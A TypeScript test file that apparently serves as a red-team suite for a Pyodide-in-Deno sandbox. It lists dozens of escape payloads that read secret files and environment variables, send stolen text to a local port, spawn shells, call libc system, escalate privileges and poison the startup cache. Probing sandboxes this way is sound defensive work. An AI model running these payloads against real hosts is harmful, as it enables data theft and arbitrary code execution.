import type { Attempt } from "../attempt.ts";

/**
 * What JavaScript's global object could do once it is found, one door each. With the interpreter's hardening off it is
 * found at once, and what is left are the permissions of the host and the walls around it. None forges
 * proxies: a wrong guess ends the process, and starting it again takes seconds.
 */
const doors: readonly (readonly [name: string, python: string])[] = [
  ["reads a file with Deno", "return w.Deno.readTextFileSync(SECRET_FILE)"],
  ["reads a file through its URL", "return w.Deno.readTextFileSync(w.URL.new('file://' + SECRET_FILE))"],
  ["reads a file through /proc/self/root", "return w.Deno.readTextFileSync('/proc/self/root' + SECRET_FILE)"],
  ["reads a file through a path that climbs", "return w.Deno.readTextFileSync('/usr/../' + SECRET_FILE)"],
  [
    "fetches a file URL",
    "w.fetch('file://' + SECRET_FILE).then(lambda r: r.text()).then(lambda t: w.fetch(f'http://127.0.0.1:{PORT}/' + t))",
  ],
  [
    "opens a file for both ways",
    "return w.Deno.openSync(SECRET_FILE, members(w, read=True, write=True)).statSync().size",
  ],
  ["writes a file with Deno", "w.Deno.writeTextFileSync(FOLDER + '/' + NAME, 'x')"],
  ["makes a temporary file where everybody may write", "return w.Deno.makeTempFileSync(members(w, dir=FOLDER))"],
  ["makes a symbolic link", "w.Deno.symlinkSync(SECRET_FILE, FOLDER + '/' + NAME)"],
  ["makes a hard link", "w.Deno.linkSync(SECRET_FILE, FOLDER + '/' + NAME)"],
  ["removes a file", "w.Deno.removeSync(SECRET_FILE)"],
  ["renames a file", "w.Deno.renameSync(SECRET_FILE, FOLDER + '/' + NAME)"],
  ["empties a file", "w.Deno.truncateSync(SECRET_FILE)"],
  ["changes the mode of a file", "w.Deno.chmodSync(SECRET_FILE, 0o777)"],
  ["changes the times of a file", "w.Deno.utimeSync(SECRET_FILE, 0, 0)"],
  ["reads the environment with Deno", "return w.JSON.stringify(w.Deno.env.toObject())"],
  ["reads the environment with process", "return w.JSON.stringify(w.process.env)"],
  ["reads the environment of the program", "return w.Deno.readTextFileSync(f'/proc/{PID}/environ')"],
  ["reads the environment of its parent", "return w.Deno.readTextFileSync(f'/proc/{w.process.ppid}/environ')"],
  ["reads the memory of the program", "return w.Deno.openSync(f'/proc/{PID}/mem').readSync(w.Uint8Array.new(1))"],
  [
    "starts a program with Deno",
    "return w.Deno.Command.new('sh', members(w, args=items(w, '-c', f'touch {FOLDER}/{NAME}; cat {SECRET_FILE}'))).outputSync().stdout.to_py().tobytes()",
  ],
  [
    "leaves a program behind",
    "w.Deno.Command.new('sh', members(w, args=items(w, '-c', f'setsid sh -c \"sleep 60; : {NAME}\" & sleep 60; : {NAME}'))).spawn()",
  ],
  [
    "starts a program with node:child_process",
    "return node(w, 'child_process').execFileSync('sh', items(w, '-c', f'touch {FOLDER}/{NAME}; cat {SECRET_FILE}')).toString()",
  ],
  ["forks the host with node:child_process", "node(w, 'child_process').fork('data:text/javascript,')"],
  [
    "starts a program with process.binding",
    "w.process.binding('spawn_sync').spawn(members(w, file='sh', args=items(w, 'sh', '-c', f'touch {FOLDER}/{NAME}')))",
  ],
  ["signals the program", "w.process.kill(PID, 'SIGUSR2')"],
  ["signals the program with Deno", "w.Deno.kill(PID, 'SIGUSR2')"],
  ["signals its parent", "w.process.kill(w.process.ppid, 'SIGUSR2')"],
  ["connects with Deno", "w.Deno.connect(members(w, hostname='127.0.0.1', port=PORT))"],
  [
    "sends a datagram with Deno",
    "w.Deno.listenDatagram(members(w, transport='udp', port=0, hostname='127.0.0.1')).send(w.Uint8Array.new(4), members(w, transport='udp', hostname='127.0.0.1', port=UDP_PORT))",
  ],
  ["sends a datagram with node:dgram", "node(w, 'dgram').createSocket('udp4').send('x', UDP_PORT, '127.0.0.1')"],
  [
    "asks for a name at a server of its own",
    "w.Deno.resolveDns(NAME + '.example.com', 'A', members(w, nameServer=members(w, ipAddr='127.0.0.1', port=UDP_PORT)))",
  ],
  ["fetches", "w.fetch(f'http://127.0.0.1:{PORT}/{NAME}')"],
  ["opens a WebSocket", "w.WebSocket.new(f'ws://127.0.0.1:{PORT}/{NAME}')"],
  ["opens a stream of server-sent events", "w.EventSource.new(f'http://127.0.0.1:{PORT}/{NAME}')"],
  ["connects with node:net", "node(w, 'net').connect(PORT, '127.0.0.1')"],
  ["asks with node:http", "node(w, 'http').get(f'http://127.0.0.1:{PORT}/{NAME}').end()"],
  ["connects with node:tls", "node(w, 'tls').connect(PORT, '127.0.0.1')"],
  [
    "connects with the bindings of TCP",
    "t = w.process.binding('tcp_wrap'); t.TCP.new(0).connect(t.TCPConnectWrap.new(), '127.0.0.1', PORT)",
  ],
  ["reads with node:fs", "return node(w, 'fs').readFileSync(SECRET_FILE, 'utf8')"],
  [
    "reads with the promises of node:fs",
    "node(w, 'fs').promises.readFile(SECRET_FILE, 'utf8').then(lambda t: w.fetch(f'http://127.0.0.1:{PORT}/' + t))",
  ],
  ["copies with node:fs", "node(w, 'fs').cpSync(SECRET_FILE, FOLDER + '/' + NAME)"],
  ["reads with process.binding", "return w.process.binding('fs').internalModuleReadJSON(SECRET_FILE)"],
  ["writes with node:sqlite", "node(w, 'sqlite').DatabaseSync.new(FOLDER + '/' + NAME).exec('create table t(x)')"],
  [
    "attaches a file with node:sqlite",
    "node(w, 'sqlite').DatabaseSync.new(':memory:').exec(f\"attach '{FOLDER}/{NAME}' as a; create table a.t(x)\")",
  ],
  [
    "vacuums into a file with node:sqlite",
    "node(w, 'sqlite').DatabaseSync.new(':memory:').exec(f\"vacuum into '{FOLDER}/{NAME}'\")",
  ],
  [
    "backs a database up with node:sqlite",
    "s = node(w, 'sqlite'); s.backup(s.DatabaseSync.new(':memory:'), FOLDER + '/' + NAME)",
  ],
  [
    "loads an extension with node:sqlite",
    "node(w, 'sqlite').DatabaseSync.new(':memory:', members(w, allowExtension=True)).loadExtension(SECRET_FILE)",
  ],
  ["opens Deno's key-value store in a file", "w.Deno.openKv(FOLDER + '/' + NAME)"],
  ["keeps a cache on the disk", "w.caches.open(NAME)"],
  ["keeps values in the local storage", "w.localStorage.setItem(NAME, 'x')"],
  [
    "runs a function of the C library",
    "w.Deno.dlopen('libc.so.6', members(w, system=members(w, parameters=items(w, 'buffer'), result='i32'))).symbols.system(w.TextEncoder.new().encode(f'touch {FOLDER}/{NAME}\\0'))",
  ],
  ["loads a library with process.dlopen", "w.process.dlopen(members(w, exports=members(w)), SECRET_FILE)"],
  ["writes a report", "return w.process.report.writeReport(FOLDER + '/' + NAME)"],
  ["writes a heap snapshot", "return node(w, 'v8').writeHeapSnapshot(FOLDER + '/' + NAME)"],
  [
    "sets flags of V8 that write a log",
    "v8 = node(w, 'v8'); v8.setFlagsFromString(f'--logfile={FOLDER}/{NAME}'); v8.setFlagsFromString('--log-all'); v8.setFlagsFromString('--trace-turbo')",
  ],
  ["writes a coverage with node:v8", "node(w, 'v8').takeCoverage()"],
  ["opens the inspector", "node(w, 'inspector').open(0, '127.0.0.1', False); return node(w, 'inspector').url()"],
  [
    "drives the inspector from inside",
    "s = node(w, 'inspector').Session.new(); s.connect(); s.post('Runtime.evaluate', members(w, expression=f'Deno.writeTextFileSync(\"{FOLDER}/{NAME}\", \"x\")'))",
  ],
  [
    "starts a worker from a data URL",
    "w.Worker.new(f'data:application/javascript,Deno.writeTextFileSync(\"{FOLDER}/{NAME}\",\"x\")', members(w, type='module'))",
  ],
  [
    "starts a worker that asks for all permissions",
    "w.Worker.new(f'data:application/javascript,Deno.writeTextFileSync(\"{FOLDER}/{NAME}\",\"x\")', members(w, type='module', deno=members(w, permissions='inherit')))",
  ],
  [
    "starts a worker of Node from text",
    'node(w, \'worker_threads\').Worker.new(f\'require("fs").writeFileSync("{FOLDER}/{NAME}","x")\', members(w, eval=True))',
  ],
  [
    "starts a worker of Node with permissions of its own",
    "node(w, 'worker_threads').Worker.new(f'require(\"fs\").writeFileSync(\"{FOLDER}/{NAME}\",\"x\")', members(w, eval=True, execArgv=items(w, '--allow-fs-write=*'), env=node(w, 'worker_threads').SHARE_ENV))",
  ],
  ["runs text with node:vm", "return node(w, 'vm').runInThisContext(f'Deno.readTextFileSync(\"{SECRET_FILE}\")')"],
  [
    "imports a module of Node in text of node:vm",
    'v = node(w, \'vm\'); v.runInThisContext(f\'import("node:fs").then((fs) => fs.writeFileSync("{FOLDER}/{NAME}", "x"))\', members(w, importModuleDynamically=v.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER))',
  ],
  [
    "requires a module with node:module",
    "return node(w, 'module').createRequire('/')('child_process').execSync(f'cat {SECRET_FILE}').toString()",
  ],
  [
    "registers hooks of the module loader",
    'node(w, \'module\').register(f\'data:text/javascript,import fs from "node:fs";fs.writeFileSync("{FOLDER}/{NAME}","x")\')',
  ],
  [
    "opens the host's files with node:wasi",
    "node(w, 'wasi').WASI.new(members(w, version='preview1', preopens=members(w, root='/'))); return w.Deno.readTextFileSync(SECRET_FILE)",
  ],
  ["evaluates text", "return w.eval(f'Deno.readTextFileSync(\"{SECRET_FILE}\")')"],
  [
    "imports in evaluated text",
    'w.eval(f\'import("node:fs").then((fs) => fs.writeFileSync("{FOLDER}/{NAME}", "x"))\')',
  ],
  [
    "imports a file as a module",
    "w.eval(f'import(\"{SECRET_FILE}\")').catch(lambda e: w.fetch(f'http://127.0.0.1:{PORT}/' + str(e)))",
  ],
  ["imports a module over the network", "w.eval(f'import(\"http://127.0.0.1:{PORT}/{NAME}.js\")')"],
  [
    "asks for permissions",
    "w.Deno.permissions.requestSync(members(w, name='read')); return w.Deno.readTextFileSync(SECRET_FILE)",
  ],
  [
    "calls the host's operations past its interface",
    "core = getattr(w.Deno, str(w.Deno.internal)) if hasattr(w.Deno, 'internal') else w.Deno.core; return core.core.ops.op_fs_read_file_text_sync(SECRET_FILE, False)",
  ],
  [
    "takes the internal symbol of Deno",
    "hidden = w.Reflect.get(w.Deno, w.Deno.internal); return hidden.core.ops.op_fs_read_file_text_sync(SECRET_FILE)",
  ],
  ["finds the bootstrap object", "return w.__bootstrap.core.ops.op_fs_read_file_text_sync(SECRET_FILE)"],
  [
    "reads through the file system of Emscripten",
    "import pyodide_js; f = pyodide_js.FS; f.mkdir('/host'); f.mount(f.filesystems.NODEFS, members(w, root='/'), '/host'); return open('/host' + SECRET_FILE).read()",
  ],
  [
    "mounts the host with pyodide_js.mountNodeFS",
    "import pyodide_js; pyodide_js.mountNodeFS('/host2', '/'); return open('/host2' + SECRET_FILE).read()",
  ],
  [
    "loads a package from the network",
    "import pyodide_js; pyodide_js.loadPackage(f'http://127.0.0.1:{PORT}/x-1-py3-none-any.whl')",
  ],
  [
    "listens for others",
    "s = w.Deno.listen(members(w, port=0, hostname='127.0.0.1')); w.fetch(f'http://127.0.0.1:{PORT}/{NAME}-{s.addr.port}')",
  ],
  ["becomes another user", "w.process.setuid(0); return w.Deno.readTextFileSync(SECRET_FILE)"],
  ["leaves the folder that it works in", "w.process.chdir(FOLDER); w.Deno.writeTextFileSync(NAME, 'x')"],
  ["takes the umask away", "w.process.umask(0); w.Deno.writeTextFileSync(FOLDER + '/' + NAME, 'x')"],
  [
    "writes to the descriptors of the host",
    "f = node(w, 'fs')\nfor n in range(3, 40):\n    try: f.writeSync(n, 'forged')\n    except Exception: pass",
  ],
  [
    "reads through the descriptors of the host",
    "f = node(w, 'fs'); told = []\nfor n in range(3, 40):\n    try: told.append(f.readFileSync(f'/proc/self/fd/{n}', 'utf8')[:100])\n    except Exception: pass\nreturn told",
  ],
  [
    "writes to the terminals and logs of the program",
    "w.console.log(NAME); w.Deno.writeTextFileSync(f'/proc/{PID}/fd/1', NAME); w.Deno.writeTextFileSync(f'{FOLDER}/{NAME}', 'x')",
  ],
  [
    "poisons the memory image that the next start takes",
    "return [w.Deno.writeTextFileSync(CACHE_FOLDER + '/' + e.name, 'x') for e in w.Deno.readDirSync(CACHE_FOLDER)]",
  ],
];

export const hostRuntimeAttempts: readonly Attempt[] = doors.map(([name, python]) => ({
  name: `JavaScript's global object ${name}`,
  attack: `w = world()\n${python}`,
  tools: ["javascript"],
}));
